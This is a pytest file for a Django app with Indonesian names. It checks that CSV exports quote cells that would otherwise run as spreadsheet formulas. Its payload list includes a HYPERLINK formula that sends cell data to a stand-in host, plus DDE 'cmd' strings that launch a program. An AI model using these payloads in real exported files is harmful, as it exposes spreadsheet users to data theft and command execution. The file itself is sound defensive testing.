"""Every CSV the system writes opens in a spreadsheet without running a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.urls import reverse

from kinerja.core.tabel import ke_csv, sel_aman
from kinerja.renstra.tabel_dokumen import DAFTAR_TABEL

pytestmark = pytest.mark.django_db

JAHAT = [
    '=HYPERLINK("http://contoh.invalid/?x="&A1;"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def _sel(isi: bytes) -> list[str]:
    teks = isi.decode("utf-8-sig")
    return [sel for baris in csv.reader(io.StringIO(teks, newline=""), delimiter=";") for sel in baris]


def _tak_berbahaya(sel: str) -> bool:
    awal = sel.lstrip(" ")
    if not awal or awal[0] not in "=+-@\t\r\n":
        return True
    # Kept on purpose: the nil dash of the plans and plain negative numbers ("-12,5", "-3%").
    return sel == "-" or (sel[1:].replace(",", "", 1).rstrip("%").isdigit() and sel[0] == "-")


@pytest.mark.parametrize("teks", JAHAT)
def test_a_cell_that_would_run_as_a_formula_gets_a_leading_quote(teks):
    assert sel_aman(teks) == "'" + teks
    assert _sel(ke_csv([[teks]])) == ["'" + teks]


@pytest.mark.parametrize("teks", ["-12,5", "-3%", "-", "12", "Rp 1.000", "a=b", "teks biasa"])
def test_numbers_and_plain_text_are_left_as_they_are(teks):
    assert sel_aman(teks) == teks
    assert sel_aman(-5) == -5


def _isi_jahat(versi):
    """Hostile text where the public and the planners can type it."""
    from kinerja.pengaduan.models import Pengaduan
    from kinerja.renstra.models import Indikator, PlanNode
    from kinerja.skm.models import Respons

    pd = versi.pd
    aduan = list(Pengaduan.objects.filter(pd=pd).order_by("pk").values_list("pk", flat=True)[: len(JAHAT)])
    respons = list(
        Respons.objects.filter(unit__pd=pd).order_by("pk").values_list("pk", flat=True)[: len(JAHAT)]
    )
    node = list(PlanNode.objects.filter(versi=versi).order_by("pk").values_list("pk", flat=True))
    indikator = list(Indikator.objects.filter(node__versi=versi).order_by("pk").values_list("pk", flat=True))
    assert len(aduan) == len(respons) == len(JAHAT)
    for i, teks in enumerate(JAHAT):
        Pengaduan.objects.filter(pk=aduan[i]).update(judul=teks)
        Respons.objects.filter(pk=respons[i]).update(saran=teks)
    for i, pk in enumerate(node):
        PlanNode.objects.filter(pk=pk).update(nama=JAHAT[i % len(JAHAT)])
    for i, pk in enumerate(indikator):
        Indikator.objects.filter(pk=pk).update(nama=JAHAT[i % len(JAHAT)])


def test_every_csv_export_neutralises_hostile_text(client, versi_sampel, capsys):
    _isi_jahat(versi_sampel)
    client.force_login(get_user_model().objects.get(username="camat"))
    unduhan = {}
    for nama in ("pengaduan:ekspor", "skm:respons_csv"):
        for tahun in (2022, 2023):
            r = client.get(reverse(nama, args=[versi_sampel.pd_id]) + f"?tahun={tahun}")
            assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
            unduhan[f"{nama} {tahun}"] = r.content
    for kode in DAFTAR_TABEL:
        r = client.get(reverse("renstra:unduh_tabel", args=[versi_sampel.pk, kode, "csv"]))
        assert r.status_code == 200, kode
        unduhan[f"tabel {kode}"] = r.content
        call_command("export", kode, "--format", "csv", "-o", "-", "--versi", str(versi_sampel.pk))
        unduhan[f"export {kode}"] = capsys.readouterr().out.encode("utf-8-sig")
    terlihat = set()
    for nama, isi in unduhan.items():
        for sel in _sel(isi):
            assert _tak_berbahaya(sel), (nama, sel)
            if sel[:1] == "'" and sel[1:] in JAHAT:
                terlihat.add((nama.split()[0], sel[1:]))
    # The hostile text is there, quoted, in every kind of export: complaints, survey, plan tables.
    for asal in ("pengaduan:ekspor", "skm:respons_csv"):
        assert {t for a, t in terlihat if a == asal} == set(JAHAT), asal
    for asal in ("tabel", "export"):
        assert any(a == asal for a, _ in terlihat), asal
